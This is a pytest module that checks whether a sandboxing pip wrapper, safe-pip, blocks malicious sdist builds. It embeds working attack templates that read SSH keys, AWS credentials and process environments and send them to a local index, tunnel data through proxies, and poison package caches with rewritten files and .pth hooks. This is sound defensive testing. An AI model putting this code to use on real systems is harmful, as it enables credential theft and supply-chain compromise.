"""``safe-pip install`` of malicious sdists, end to end: every attack fails, the install works.

test_build_sandbox.py drives the per-sdist build helper directly; this module drives
the ``safe-pip install`` command as a user would (their HOME, their secrets in the
environment, their uv caches), against the real local index of :mod:`pkg_index`.
Each scenario has two halves in this file, so a broken fixture cannot make the
sandboxed half pass vacuously:

- **plain** -- the same sdist installed with plain ``uv pip install``: every attack
  leaves its evidence (the attack and the way the test detects it are real);
- **sandboxed** -- ``safe-pip install --venv V -i INDEX PKG`` in both sandbox modes: the
  install succeeds (the malicious ``setup.py`` runs to its end and the package is
  installed) and no attack leaves any evidence.

What is proven:

1. One sdist carries every attack (each in its own function, so one failing does not
   stop the others): read a secret file in HOME; read ``$SECRET_TOKEN``; read it from
   ``/proc/<pid>/environ`` of the ancestors; send data over raw TCP and UDP; an HTTP
   request through the ``HTTP_PROXY`` the sandbox hands out, and a ``CONNECT`` through
   its ``HTTPS_PROXY``, both to loopback ports that are not the index; append to
   ``~/.bashrc``; drop a ``.pth`` into the user site-packages; leave a daemon that
   outlives the install; write into the caller's uv caches (``~/.cache/uv`` and
   ``$UV_CACHE_DIR``) and into safe-pip's own shared cache
   (``$XDG_CACHE_HOME/safe-pip/uv``); append to the target venv's ``bin/activate``;
   write files into the project directory and the home.
   Two channels that the sandbox leaves open on purpose make the blocked results mean
   something: the attack code reports every attack it ran to the (allowed) index, and
   sends whatever secrets it could read to the index too, so "the secret never
   arrived" means it was never read, not merely that the sink was unreachable; a
   second daemon keeps requesting index pages, so "no request after the install"
   means it was killed (a file written by a daemon could not tell, since no
   persistent path is writable in the sandbox).
2. A build cannot poison a later install through safe-pip's shared uv cache: a
   malicious build that rewrites every ``benign`` file it can reach in the caches
   (and drops a code-executing ``.pth`` beside them) poisons the next plain
   ``uv pip install benign-wheel`` from the same cache, while after the same attack
   inside ``safe-pip install`` the next ``safe-pip install benign-wheel`` (from the
   shared cache, which an earlier ``safe-pip install`` warmed) is the genuine package.
"""

from __future__ import annotations

import json
import re
import secrets
import subprocess
import sys
import time
import zipfile
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path

import pytest
from net_servers import HttpOrigin, TcpSink, UdpSink, wait_until
from pkg_index import (
    ATTACKS,
    BENIGN_WHEEL,
    BENIGN_WHEEL_SCRIPT,
    FIXTURE_VERSION,
    HEARTBEAT_DAEMON,
    LocalIndex,
    combine_attacks,
    malicious_sdist,
    render_attack,
    render_every_attack,
    uv_binary,
    uv_env,
    wait_for_file,
)
from sandbox_harness import World, make_world

SAFE_PIP = Path(sys.executable).parent / "safe-pip"
pytestmark = [
    pytest.mark.sandbox,
    pytest.mark.skipif(not SAFE_PIP.exists(), reason="safe-pip is not installed next to python"),
]

#: How long the file-writing daemon waits before leaving its evidence, in seconds.
DAEMON_DELAY = 1.0
#: How long the heartbeat daemon keeps requesting index pages, in seconds: longer than
#: any install here takes after the last ``setup.py`` run, so a surviving daemon is seen.
HEARTBEAT_LIFETIME = 8.0
#: What the poisoned ``benign-wheel`` prints.
POISON_WORD = "POISONED"
BENIGN_OUTPUT = f"hello from {BENIGN_WHEEL}\n"
#: The code-executing file the poisoning build drops next to cached ``benign`` wheels.
POISON_PTH = "zz_safe_pip_poison.pth"


# --- the world: one user's account -----------------------------------------------------


def user_uv_cache(world: World) -> Path:
    """The caller's ``$UV_CACHE_DIR``, which their unsandboxed ``uv`` runs read."""
    return world.root / "uv-cache"


def home_uv_cache(world: World) -> Path:
    """``~/.cache/uv``, uv's default cache."""
    return world.home / ".cache" / "uv"


def xdg_cache(world: World) -> Path:
    return world.root / "xdg-cache"


def shared_cache(world: World) -> Path:
    """safe-pip's persistent uv cache (``safe_pip.installer.cache.shared_cache_dir``)."""
    return xdg_cache(world) / "safe-pip" / "uv"


def built_wheels(world: World) -> Path:
    """safe-pip's cache of checked builds (``safe_pip.installer.built_wheels``)."""
    return xdg_cache(world) / "safe-pip" / "built-wheels" / "v1"


@pytest.fixture
def world(tmp_path: Path) -> World:
    world = make_world(tmp_path)
    # The caller's own uv caches exist (a write into them would succeed); the XDG
    # cache home exists, and safe-pip makes its own directory inside it.
    user_uv_cache(world).mkdir()
    home_uv_cache(world).mkdir(parents=True)
    xdg_cache(world).mkdir()
    return world


def caller_env(world: World, mode: str | None = None) -> dict[str, str]:
    """The caller's environment for ``safe-pip``: HOME, secrets, uv cache, XDG cache."""
    env = world.env(
        mode, UV_CACHE_DIR=str(user_uv_cache(world)), XDG_CACHE_HOME=str(xdg_cache(world))
    )
    env.pop("VIRTUAL_ENV", None)
    return env


def plain_env(world: World) -> dict[str, str]:
    """The same user running plain uv: HOME, secrets, their uv cache, XDG cache."""
    return uv_env(
        world.home,
        user_uv_cache(world),
        SECRET_TOKEN=world.secret,
        AWS_SECRET_ACCESS_KEY=world.secret,
        XDG_CACHE_HOME=str(xdg_cache(world)),
    )


@dataclass
class Run:
    """One command's result, and when it had exited."""

    returncode: int
    stdout: str
    stderr: str
    finished: float  # time.monotonic()

    def explain(self) -> str:
        return f"exit {self.returncode}\nstdout:\n{self.stdout}\nstderr:\n{self.stderr[-6000:]}"

    def outcome(self) -> dict[str, object]:
        """``safe-pip install --json``'s outcome line."""
        lines = [line for line in self.stdout.splitlines() if line.startswith("{")]
        assert lines, self.explain()
        parsed = json.loads(lines[-1])
        assert isinstance(parsed, dict), self.explain()
        return parsed


def _run(argv: list[str], world: World, env: dict[str, str], timeout: float) -> Run:
    done = subprocess.run(
        argv,
        cwd=world.project,
        env=env,
        capture_output=True,
        text=True,
        timeout=timeout,
        check=False,
    )
    return Run(done.returncode, done.stdout, done.stderr, time.monotonic())


def safe_pip_install(world: World, mode: str, venv: Path, index: LocalIndex, *packages: str) -> Run:
    """``safe-pip install --venv VENV -i INDEX PACKAGES`` as the user of ``world``."""
    argv = [str(SAFE_PIP), "install", "--json", "--python", sys.executable]
    argv += ["--venv", str(venv), "-i", index.url, *packages]
    return _run(argv, world, caller_env(world, mode), timeout=180)


def plain_uv_install(world: World, venv: Path, index: LocalIndex, *packages: str) -> Run:
    """``uv pip install`` of the same packages, no sandbox: the attack half."""
    argv = [uv_binary(), "pip", "install", "--python", str(venv / "bin" / "python")]
    argv += ["--default-index", index.url, *packages]
    return _run(argv, world, plain_env(world), timeout=180)


def make_venv(world: World, path: Path) -> Path:
    """A plain venv made by uv (no package code runs), as the user had it already."""
    argv = [uv_binary(), "venv", "--quiet", "--python", sys.executable, str(path)]
    made = _run(argv, world, plain_env(world), timeout=60)
    assert made.returncode == 0, made.explain()
    return path


def run_in_venv(venv: Path, *argv: str) -> subprocess.CompletedProcess[str]:
    """A program of the venv, with an environment that names nothing of the test's."""
    program = argv[0] if "/" in argv[0] else str(venv / "bin" / argv[0])
    return subprocess.run(
        [program, *argv[1:]],
        env={"PATH": "/usr/bin:/bin", "LANG": "C.UTF-8"},
        capture_output=True,
        text=True,
        timeout=60,
        check=False,
    )


def unique(tag: str) -> str:
    return f"{tag}-{secrets.token_hex(4)}"


# --- attack code of this module --------------------------------------------------------

#: Send what could be read to the *allowed* index, hex-encoded in request paths: the
#: home secret file, the environment, the ancestors' ``/proc/<pid>/environ``.  The
#: index is reachable from the sandbox on purpose, so a secret that was read would
#: arrive; that it does not shows the read itself failed.
LEAK_VIA_INDEX = """\
import os, urllib.error, urllib.request
found = {{"home": b"", "env": b"", "proc": b""}}
for base in dict.fromkeys(["{home}", os.path.expanduser("~")]):
    for name in (".ssh/id_rsa", ".aws/credentials"):
        try:
            with open(os.path.join(base, name), "rb") as secret_file:
                found["home"] += secret_file.read()
        except OSError as exc:
            found["home"] += repr(exc).encode()
for name in ("SECRET_TOKEN", "AWS_SECRET_ACCESS_KEY"):
    found["env"] += ("%s=%s;" % (name, os.environ.get(name))).encode()
pid = os.getppid()
while pid > 1:
    try:
        with open(f"/proc/{{pid}}/environ", "rb") as environ:
            found["proc"] += b";".join(e for e in environ.read().split(b"\\0") if b"SECRET" in e)
        with open(f"/proc/{{pid}}/stat", "rb") as stat_file:
            pid = int(stat_file.read().rsplit(b")", 1)[1].split()[1])
    except (OSError, ValueError, IndexError) as exc:
        found["proc"] += repr(exc).encode()
        break
for kind, data in found.items():
    try:
        urllib.request.urlopen("{url}" + kind + "/" + data[:1500].hex() + "/", timeout=5)
    except urllib.error.HTTPError:
        pass  # the index's 404: the request arrived
"""

#: An HTTP request to a loopback port that is not the index, through the proxy the
#: sandbox hands out in ``HTTP_PROXY`` (directly when there is none, as in plain uv).
ATTACK_HTTP_PROXY = """\
import os, sys, urllib.error, urllib.request
proxy = os.environ.get("HTTP_PROXY") or os.environ.get("http_proxy") or ""
handler = urllib.request.ProxyHandler({{"http": proxy}} if proxy else {{}})
opener = urllib.request.build_opener(handler)
token = os.environ.get("SECRET_TOKEN") or "none"
try:
    opener.open("{url}proxy-{marker}/" + token, timeout=5)
except urllib.error.HTTPError as exc:
    print("HTTP through", proxy or "nothing", "answered", exc.code, file=sys.stderr)
"""

#: A ``CONNECT`` tunnel to a loopback port that is not the index, through the proxy in
#: ``HTTPS_PROXY`` (a direct connection when there is none), sending a marker.
ATTACK_CONNECT_PROXY = """\
import os, socket, urllib.parse
proxy = os.environ.get("HTTPS_PROXY") or os.environ.get("https_proxy") or ""
if proxy:
    parts = urllib.parse.urlsplit(proxy)
    conn = socket.create_connection((parts.hostname, parts.port), timeout=5)
    conn.sendall(b"CONNECT {host}:{port} HTTP/1.1\\r\\nHost: {host}:{port}\\r\\n\\r\\n")
    status = conn.recv(200).split(b"\\r\\n", 1)[0]
    if b" 200" not in status:
        conn.close()
        raise OSError("CONNECT refused: %r" % status)
else:
    conn = socket.create_connection(("{host}", {port}), timeout=5)
with conn:
    conn.sendall(b"TUNNEL:{marker}")
"""


# --- scenario 1: every attack in one sdist ---------------------------------------------


@dataclass
class Scenario:
    """A world wired for the combined attack sdist, and where its evidence would be."""

    world: World
    index: LocalIndex
    tcp: TcpSink
    udp: UdpSink
    origin: HttpOrigin
    marker: str
    name: str
    attack_keys: list[str]
    venv: Path
    daemon: Path
    bashrc_before: str = ""
    activate_before: str = ""
    written: dict[str, Path] = field(default_factory=dict)

    # -- the channels the sandbox leaves open -------------------------------------------

    def _index_paths(self, kind: str) -> list[str]:
        prefix = f"/simple/{kind}-{self.marker}/"
        return [path.removeprefix(prefix) for path in self.index.paths() if path.startswith(prefix)]

    def reported(self) -> dict[str, set[str]]:
        """Attack → the results it reported (``completed``/``failed``), from every run."""
        results: dict[str, set[str]] = {}
        for path in self._index_paths("ran"):
            key, _, result = path.strip("/").rpartition("-")
            results.setdefault(key, set()).add(result)
        return results

    def leaked(self, kind: str) -> list[bytes]:
        """What the attack code sent to the index as ``kind`` (home/env/proc), decoded."""
        out = []
        for path in self._index_paths("leak"):
            got, _, data = path.strip("/").partition("/")
            if got == kind:
                out.append(bytes.fromhex(data))
        return out

    def heartbeats(self) -> int:
        return len(self._index_paths("beat"))

    # -- evidence of each attack, None when there is none -------------------------------

    def leak_evidence(self, kind: str) -> str | None:
        secret = self.world.secret.encode()
        hits = [data for data in self.leaked(kind) if secret in data]
        return f"the secret reached the index: {hits[0][:200]!r}" if hits else None

    def _tcp_evidence(self, pattern: bytes) -> str | None:
        match = re.search(pattern, self.tcp.received)
        return f"the TCP sink got {match.group(0)[:200]!r}" if match else None

    def evidence(self, heartbeats_at_exit: int) -> dict[str, str | None]:
        """Every attack → what it left behind (None: nothing)."""
        world, marker = self.world, self.marker
        secret = re.escape(world.secret.encode())
        site = world.home.glob(".local/lib/python*/site-packages/*.pth")
        pths = [str(p) for p in site if marker in p.read_text(errors="replace")]
        bashrc = (world.home / ".bashrc").read_text()
        activate = (self.venv / "bin" / "activate").read_text()
        beats = self.heartbeats() - heartbeats_at_exit
        udp = [d for d in self.udp.datagrams if marker.encode() in d]
        started = self.daemon.with_name(self.daemon.name + ".started")
        daemon = [str(path) for path in (started, self.daemon) if path.exists()]

        def poisoned(*caches: Path) -> str | None:
            found = [str(p) for c in caches for p in c.rglob(f"safe-pip-poison-{marker}")]
            return f"written: {found}" if found else None

        def written(key: str) -> str | None:
            path = self.written[key]
            return f"{path} holds {path.read_text()!r}" if path.exists() else None

        return {
            "read_home": self._tcp_evidence(rb"HOME:[^\n]*" + secret) or self.leak_evidence("home"),
            "env": self._tcp_evidence(rb"ENV:" + secret) or self.leak_evidence("env"),
            "proc_environ": self._tcp_evidence(rb"PROC:\d+:SECRET_TOKEN=" + secret)
            or self.leak_evidence("proc"),
            "tcp": self._tcp_evidence(rb"TCP:" + marker.encode()),
            "udp": f"the UDP sink got {udp[0]!r}" if udp else None,
            "http_proxy": next(
                (f"the origin got {p}" for p in self.origin.paths() if marker in p), None
            ),
            "connect_proxy": self._tcp_evidence(rb"TUNNEL:" + marker.encode()),
            "bashrc": f"~/.bashrc is now {bashrc!r}" if bashrc != self.bashrc_before else None,
            "user_site_pth": f"dropped {pths}" if pths else None,
            "daemon": f"written: {daemon}" if daemon else None,
            "heartbeat": f"{beats} index requests after the install" if beats > 0 else None,
            "uv_cache": poisoned(user_uv_cache(world), home_uv_cache(world)),
            "shared_cache": poisoned(shared_cache(world)),
            "built_wheels": poisoned(built_wheels(world)),
            "venv_activate": f"bin/activate is now {activate[-200:]!r}"
            if activate != self.activate_before
            else None,
            "write_project": written("write_project"),
            "write_home": written("write_home"),
        }


@pytest.fixture
def scenario(world: World, index: LocalIndex) -> Iterator[Scenario]:
    marker = unique("evil")
    venv = make_venv(world, world.root / "victim-venv")
    # safe-pip's shared cache exists, as after an earlier safe-pip install (so that a
    # write into it could succeed; the plain half shows it does).
    shared_cache(world).mkdir(parents=True, mode=0o700)
    built_wheels(world).mkdir(parents=True, mode=0o700)
    daemon = world.root / "daemon-evidence"
    written = {
        "write_project": world.project / f"pwned-{marker}.txt",
        "write_home": world.home / f"pwned-{marker}.txt",
    }
    report = f"{index.url}ran-{marker}/"
    with TcpSink() as tcp, UdpSink() as udp, HttpOrigin() as origin:
        attacks = render_every_attack(
            tcp_port=tcp.port,
            udp_port=udp.port,
            home=world.home,
            marker=marker,
            daemon_evidence=daemon,
            daemon_delay=DAEMON_DELAY,
            uv_cache=user_uv_cache(world),
            venv=venv,
            outside=written["write_project"],
        )
        attacks["write_project"] = attacks.pop("write_outside")
        attacks["write_home"] = render_attack(
            ATTACKS["write_outside"], path=written["write_home"], marker=marker
        )
        attacks["shared_cache"] = render_attack(
            ATTACKS["uv_cache"], cache_dir=shared_cache(world), marker=marker
        )
        attacks["built_wheels"] = render_attack(
            ATTACKS["uv_cache"], cache_dir=built_wheels(world), marker=marker
        )
        attacks["http_proxy"] = render_attack(ATTACK_HTTP_PROXY, url=origin.url("/"), marker=marker)
        attacks["connect_proxy"] = render_attack(ATTACK_CONNECT_PROXY, port=tcp.port, marker=marker)
        attacks["heartbeat"] = render_attack(
            HEARTBEAT_DAEMON,
            url=f"{index.url}beat-{marker}/",
            marker=marker,
            lifetime=HEARTBEAT_LIFETIME,
        )
        attacks["leak"] = render_attack(
            LEAK_VIA_INDEX, home=world.home, url=f"{index.url}leak-{marker}/"
        )
        name = f"evil-all-{marker}"
        malicious_sdist(index.directory, name, combine_attacks(attacks, report))
        yield Scenario(
            world=world,
            index=index,
            tcp=tcp,
            udp=udp,
            origin=origin,
            marker=marker,
            name=name,
            attack_keys=list(attacks),
            venv=venv,
            daemon=daemon,
            bashrc_before=(world.home / ".bashrc").read_text(),
            activate_before=(venv / "bin" / "activate").read_text(),
            written=written,
        )


def test_every_attack_works_under_plain_uv(scenario: Scenario) -> None:
    """The attack half: plain ``uv pip install`` of the combined sdist; every attack
    runs to completion and leaves its evidence."""
    s = scenario
    run = plain_uv_install(s.world, s.venv, s.index, s.name)
    assert run.returncode == 0, run.explain()

    reported = s.reported()
    incomplete = {
        key: reported.get(key) for key in s.attack_keys if reported.get(key) != {"completed"}
    }
    assert not incomplete, f"attacks that did not complete under plain uv: {incomplete}"
    # The evidence that arrives asynchronously or after a delay.
    secret = s.world.secret.encode()
    assert wait_until(lambda: s.tcp.received.count(secret) >= 3, 5), s.tcp.received
    assert wait_until(lambda: bool(s.udp.datagrams), 5)
    assert wait_for_file(s.daemon, DAEMON_DELAY + 5), "the daemon did not outlive uv"
    heartbeats_at_exit = s.heartbeats()
    assert wait_until(lambda: s.heartbeats() > heartbeats_at_exit, 3)

    evidence = s.evidence(heartbeats_at_exit)
    missing = sorted(key for key, found in evidence.items() if found is None)
    assert not missing, f"attacks that left no evidence under plain uv: {missing}"
    # Reading secrets is also visible through the allowed index (the channel that
    # the sandboxed half relies on).
    for kind in ("home", "env", "proc"):
        assert s.leak_evidence(kind), f"{kind}: {s.leaked(kind)}"


def test_every_attack_fails_under_safe_pip_install(scenario: Scenario, mode: str) -> None:
    """``safe-pip install`` of the combined sdist succeeds, every attack runs inside
    the sandbox (and reports so), and none leaves any evidence."""
    s, world = scenario, scenario.world
    run = safe_pip_install(world, mode, s.venv, s.index, s.name)

    # The install worked: the malicious package is in the venv.
    assert run.returncode == 0, run.explain()
    installed = run.outcome()["installed"]
    assert isinstance(installed, list), run.explain()
    assert f"{s.name}=={FIXTURE_VERSION}" in installed, run.explain()
    module = s.name.replace("-", "_")
    imported = run_in_venv(s.venv, "python", "-c", f"import {module}")
    assert imported.returncode == 0, imported.stderr

    # Every attack ran to its end inside the sandbox (and said so through the index).
    reported = s.reported()
    not_run = sorted(key for key in s.attack_keys if key not in reported)
    assert not not_run, f"attacks that never ran: {not_run}\n{run.explain()}"
    for kind in ("home", "env", "proc"):
        assert s.leaked(kind), f"the index never got the {kind} report"
    assert s.heartbeats() > 0, "the heartbeat daemon never reached the index"

    # A surviving daemon would keep calling the index; the other one writes its
    # evidence file after DAEMON_DELAY.  Wait for both past the install's end.
    heartbeats_at_exit = s.heartbeats()
    time.sleep(max(0.0, run.finished + DAEMON_DELAY + 1.0 - time.monotonic()))
    evidence = s.evidence(heartbeats_at_exit)
    got_through = {key: found for key, found in evidence.items() if found is not None}
    assert not got_through, "attacks that got through safe-pip install:\n" + "\n".join(
        f"  {key}: {found}" for key, found in got_through.items()
    )
    assert world.secret not in run.stdout + run.stderr


# --- scenario 2: poisoning the shared cache for a later install -------------------------

#: Walk the caches (safe-pip's shared one, the caller's ``$UV_CACHE_DIR`` and
#: ``~/.cache/uv``, explicitly and as the build sees them), replace every ``*.py`` whose
#: path mentions ``benign`` with code that prints POISONED, check every other such file
#: for write access, and drop a code-executing ``.pth`` next to each unpacked
#: ``benign*.dist-info``, where an installer that links the whole directory picks it up.
#: Reports ``seen-N/writable-N/poisoned-N/dropped-N`` to the index.
POISON_CACHES = """\
import os, urllib.error, urllib.request
poison = 'def main() -> None:\\n    print("{word}")\\n\\nprint("{word} at import")\\n'
roots = ["{shared}", "{user_cache}", "{home}/.cache/uv", os.environ.get("UV_CACHE_DIR", "")]
roots += [os.path.expanduser(p) for p in ("~/.cache/uv", "~/.cache/safe-pip/uv")]
roots.append(os.path.join(os.environ.get("XDG_CACHE_HOME", "/nonexistent"), "safe-pip", "uv"))
counts = dict.fromkeys(("seen", "writable", "poisoned", "dropped"), 0)


def replace(path, text):
    try:
        with open(path, "w") as handle:
            handle.write(text)
    except OSError:
        os.unlink(path)  # a read-only file in a writable directory
        with open(path, "w") as handle:
            handle.write(text)


for root in dict.fromkeys(filter(None, roots)):
    for directory, subdirs, files in os.walk(root):
        for name in subdirs:
            if name.startswith("benign") and name.endswith(".dist-info"):
                try:
                    with open(os.path.join(directory, "{pth}"), "w") as pth:
                        pth.write("import sys; print('{word} by a .pth')\\n")
                    counts["dropped"] += 1
                except OSError:
                    pass
        for name in files:
            path = os.path.join(directory, name)
            if "benign" not in path[len(root):].lower():
                continue
            counts["seen"] += 1
            try:
                if name.endswith(".py"):
                    replace(path, poison)
                    counts["poisoned"] += 1
                else:
                    open(path, "ab").close()
                counts["writable"] += 1
            except OSError:
                pass
summary = "/".join("%s-%d" % item for item in counts.items())
try:
    urllib.request.urlopen("{url}" + summary + "/", timeout=5)
except urllib.error.HTTPError:
    pass
"""


@dataclass
class Poisoner:
    """The cache-poisoning sdist (on the index) and its reports."""

    name: str
    marker: str
    index: LocalIndex

    def reports(self) -> list[dict[str, int]]:
        """``{"seen": N, ...}`` of every run of the poisoning code."""
        prefix = f"/simple/poison-{self.marker}/"
        out = []
        for path in self.index.paths():
            if path.startswith(prefix):
                pairs = (
                    part.rsplit("-", 1) for part in path.removeprefix(prefix).split("/") if part
                )
                out.append({key: int(value) for key, value in pairs})
        return out


@pytest.fixture
def poisoner(world: World, index: LocalIndex) -> Poisoner:
    marker = unique("poison")
    code = render_attack(
        POISON_CACHES,
        word=POISON_WORD,
        pth=POISON_PTH,
        shared=shared_cache(world),
        user_cache=user_uv_cache(world),
        home=world.home,
        url=f"{index.url}poison-{marker}/",
    )
    name = f"evil-poison-{marker}"
    malicious_sdist(index.directory, name, code)
    return Poisoner(name, marker, index)


def genuine_source(index_dir: Path) -> str:
    """``benign_wheel/__init__.py`` as the index serves it."""
    wheel = index_dir / f"{BENIGN_WHEEL.replace('-', '_')}-{FIXTURE_VERSION}-py3-none-any.whl"
    with zipfile.ZipFile(wheel) as archive:
        return archive.read("benign_wheel/__init__.py").decode()


def benign_files(cache: Path) -> list[Path]:
    return [p for p in cache.rglob("*") if "benign" in str(p.relative_to(cache)).lower()]


def test_plain_uv_cache_poisoning_reaches_a_later_install(
    world: World, index: LocalIndex, poisoner: Poisoner
) -> None:
    """The attack half: with plain uv, a build run against a warm uv cache rewrites
    ``benign-wheel`` there, and the next install of it from that cache is poisoned."""
    first = make_venv(world, world.root / "venv-a")
    warm = plain_uv_install(world, first, index, BENIGN_WHEEL)
    assert warm.returncode == 0, warm.explain()
    attack = plain_uv_install(world, first, index, poisoner.name)
    assert attack.returncode == 0, attack.explain()
    reports = poisoner.reports()
    assert any(r["poisoned"] > 0 and r["dropped"] > 0 for r in reports), reports

    later = make_venv(world, world.root / "venv-b")
    again = plain_uv_install(world, later, index, BENIGN_WHEEL)
    assert again.returncode == 0, again.explain()
    hello = run_in_venv(later, BENIGN_WHEEL_SCRIPT)
    assert f"{POISON_WORD} by a .pth" in hello.stdout, hello.stdout + hello.stderr
    assert re.search(rf"^{POISON_WORD}$", hello.stdout, re.M), hello.stdout + hello.stderr


def test_a_build_cannot_poison_safe_pips_cache_for_a_later_install(
    world: World, mode: str, index: LocalIndex, index_dir: Path, poisoner: Poisoner
) -> None:
    """safe-pip's shared cache, warmed by one install, is what the malicious build
    attacks; the next install from that cache is still the genuine package."""
    cache = shared_cache(world)
    first = world.root / "venv-a"
    warm = safe_pip_install(world, mode, first, index, BENIGN_WHEEL)
    assert warm.returncode == 0, warm.explain()
    cached = benign_files(cache)
    assert cached, (
        f"safe-pip install {BENIGN_WHEEL} left nothing of it in the shared cache {cache}; "
        f"this test would prove nothing (cache holds: {sorted(map(str, cache.rglob('*')))[:20]})"
    )

    attack = safe_pip_install(world, mode, first, index, poisoner.name)
    assert attack.returncode == 0, attack.explain()
    reports = poisoner.reports()
    assert reports, f"the poisoning code never ran (or could not report)\n{attack.explain()}"
    touched = [r for r in reports if r["writable"] or r["poisoned"] or r["dropped"]]
    assert not touched, f"the build could write into a cache: {reports}"

    later = world.root / "venv-b"
    again = safe_pip_install(world, mode, later, index, BENIGN_WHEEL)
    assert again.returncode == 0, again.explain()
    for venv in (later, first):
        hello = run_in_venv(venv, BENIGN_WHEEL_SCRIPT)
        assert hello.returncode == 0, hello.stderr
        assert hello.stdout == BENIGN_OUTPUT, f"{venv.name}: {hello.stdout!r}"
        source = run_in_venv(
            venv,
            "python",
            "-c",
            "import benign_wheel, sys; sys.stdout.write(open(benign_wheel.__file__).read())",
        )
        assert source.returncode == 0, source.stderr
        assert source.stdout == genuine_source(index_dir), f"{venv.name}: {source.stdout!r}"
    # The cache itself: nothing rewritten, nothing dropped.
    word = POISON_WORD.encode()
    poisoned = [p for p in benign_files(cache) if p.is_file() and word in p.read_bytes()]
    assert not poisoned, f"benign files the build rewrote in the shared cache: {poisoned}"
    dropped = list(cache.rglob(POISON_PTH))
    assert not dropped, f"files the build dropped into the shared cache: {dropped}"
